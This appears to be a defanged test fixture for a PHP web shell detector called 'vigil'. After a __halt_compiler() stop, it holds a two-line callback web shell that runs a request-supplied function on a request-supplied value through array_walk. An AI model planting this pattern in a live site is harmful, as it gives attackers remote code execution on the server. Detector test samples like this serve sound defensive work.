<?php
/* DEFANGED vigil test sample (see README). Nothing below runs. */
__halt_compiler();
<?php
$list = array($_REQUEST['v']);
array_walk($list, $_REQUEST['cb']);
